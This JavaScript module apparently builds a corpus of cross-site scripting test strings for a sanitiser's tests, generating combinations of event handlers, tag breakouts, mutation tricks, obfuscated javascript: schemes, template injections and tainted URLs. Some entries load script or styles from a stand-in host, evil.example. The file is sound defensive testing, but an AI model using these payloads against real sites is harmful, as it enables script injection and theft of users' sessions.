// Texts that would run `__xss=1` if any part of the page took them for HTML, for an address or for a template.

const WRITTEN = [
  '<script>__xss=1</script>',
  '<SCRIPT>__xss=1</SCRIPT>',
  '<scr<script>ipt>__xss=1</scr</script>ipt>',
  '"><script>__xss=1</script>',
  "'><script>__xss=1</script>",
  '</textarea><script>__xss=1</script>',
  '</title><script>__xss=1</script>',
  '</template><script>__xss=1</script>',
  '<!--><script>__xss=1</script>',
  '<script src=data:text/javascript,__xss=1></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>__xss=1</script>',
  '<img src=x onerror=__xss=1>',
  '<img src=x onerror="__xss=1">',
  "<img src='x' onerror='__xss=1'>",
  '<IMG SRC=x OnErRoR=__xss=1>',
  '<img/src=x/onerror=__xss=1>',
  '<img src=x:x onerror=__xss=1//',
  '"><img src=x onerror=__xss=1>',
  '" onmouseover="__xss=1" x="',
  "' onfocus='__xss=1' autofocus='",
  '<svg onload=__xss=1>',
  '<svg/onload=__xss=1>',
  '<svg><script>__xss=1</script></svg>',
  '<svg><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__xss=1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>',
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss=1>',
  '<body onload=__xss=1>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:__xss=1"></object>',
  '<embed src="javascript:__xss=1">',
  '<a href="javascript:__xss=1">x</a>',
  '<a href="data:text/html,<script>__xss=1</script>">x</a>',
  'javascript:__xss=1',
  '[x](javascript:__xss=1)',
  '<input autofocus onfocus=__xss=1>',
  '<details open ontoggle=__xss=1>',
  '<video><source onerror=__xss=1>',
  '<audio src=x onerror=__xss=1>',
  '<marquee onstart=__xss=1>x</marquee>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '{{constructor.constructor("__xss=1")()}}',
  '${__xss=1}',
  '&lt;img src=x onerror=__xss=1&gt;',
  '&#60;img src=x onerror=__xss=1&#62;',
  '\\u003cimg src=x onerror=__xss=1\\u003e',
  '\u202e<img src=x onerror=__xss=1>\u202c',
  '<img src=x onerror=__xss=1>\u200b',
];

// The same tricks in the many ways there are to write them.
const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onanimationend', 'ontransitionend',
  'onbeforetoggle', 'ontoggle', 'onscroll', 'onscrollend', 'onwheel', 'oncopy', 'onpaste', 'onkeydown', 'oncontentvisibilityautostatechange', 'onfocusin', 'onsubmit',
  'oninput', 'onchange', 'onresize', 'onhashchange', 'onpagereveal', 'onunhandledrejection', 'onwebkitanimationend', 'onrepeat',
];
const ELEMENTS = [
  'img src=x', 'svg', 'body', 'input autofocus', 'select autofocus', 'textarea autofocus', 'button autofocus', 'video src=x', 'audio src=x', 'iframe src=x',
  'object data=x', 'embed src=x', 'details open', 'dialog open', 'marquee', 'link rel=stylesheet href=x', 'script src=x', 'style', 'a href=# autofocus', 'p tabindex=0 autofocus',
  'x-y tabindex=1 autofocus', 'image src=x', 'picture><source srcset=x><img src=x', 'video><track src=x', 'form><button popovertarget=x', 'math href=x', 'frameset', 'isindex', 'meter', 'keygen autofocus',
];
const CLOSERS = ['</p>', '</span>', '</div>', '</button>', '</ul>', '</script>', '</style>', '</template>', '</noscript>', '</textarea>', '</title>', '-->', ']]>', '\'">', '`>', '" x="', '\\">', '%22%3E'];
const SCHEMES = [
  'javascript:', 'JavaScript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:', 'javascript&colon;', 'javascript&#58;', 'jav&#x09;ascript:', 'vbscript:',
  'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'blob:http://', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:', 'livescript:', 'javascript://www.tienda.cl/%0a', 'javascript:https://tienda.cl/',
];
const ADDRESSES = [
  'https://tienda.cl/"onmouseover="__xss=1', "https://tienda.cl/'onmouseover='__xss=1", 'https://tienda.cl/"><img src=x onerror=__xss=1>', 'https://tienda.cl/<script>__xss=1</script>',
  'https://tienda.cl/`onclick=__xss=1`', 'https://"onclick="__xss=1".tienda.cl', 'www.tienda.cl"onclick="__xss=1', 'www.tienda.cl/<svg/onload=__xss=1>', 'ana@tienda.cl"onclick="__xss=1',
  'mailto:ana@tienda.cl?subject=<script>__xss=1</script>', 'tel:+56912345678"onclick="__xss=1', 'http://tienda.cl\\"onclick="__xss=1', 'https://tienda.cl/?q=javascript:__xss=1', 'https://tienda.cl#javascript:__xss=1',
  '[x](https://tienda.cl/"onclick="__xss=1)', '<https://tienda.cl/onclick=__xss=1>', '<a href=https://tienda.cl onclick=__xss=1>x</a>', 'https://tienda.cl/\u2028__xss=1', 'https://tienda.cl/\u202e<script>__xss=1</script>', 'https://tienda.cl/&quot;onclick=&quot;__xss=1',
];

const MADE = [
  ...HANDLERS.flatMap((handler) => ['img src=x', 'svg', 'p tabindex=0 autofocus'].map((element) => `<${element} ${handler}=__xss=1>`)),
  ...ELEMENTS.flatMap((element) => [`<${element} onerror=__xss=1 onload=__xss=1 onfocus=__xss=1>`, `<${element.toUpperCase()}/ONFOCUS=__xss=1//`]),
  ...CLOSERS.flatMap((closer) => [`${closer}<img src=x onerror=__xss=1>`, `${closer}<script>__xss=1</script>`]),
  ...SCHEMES.flatMap((scheme) => [`${scheme}__xss=1`, `<a href="${scheme}__xss=1">x</a>`, `<iframe src="${scheme}__xss=1">`]),
  ...ADDRESSES,
];

const MOST = 300;
const ORDINARY = 50;

/** The whole corpus; each once, and none that trimming would change. */
export const CORPUS = [...new Set([...WRITTEN, ...MADE].map((text) => text.trim().normalize('NFC')))].slice(0, MOST);

/** What a run takes: a sixth of everything, spread evenly; all of it with WEIGENCE_CORPUS=all. */
export const PAYLOADS = process.env.WEIGENCE_CORPUS === 'all'
  ? CORPUS
  : CORPUS.filter((_, index) => index % Math.ceil(CORPUS.length / ORDINARY) === 0 || ADDRESSES.slice(0, 4).includes(CORPUS[index]));
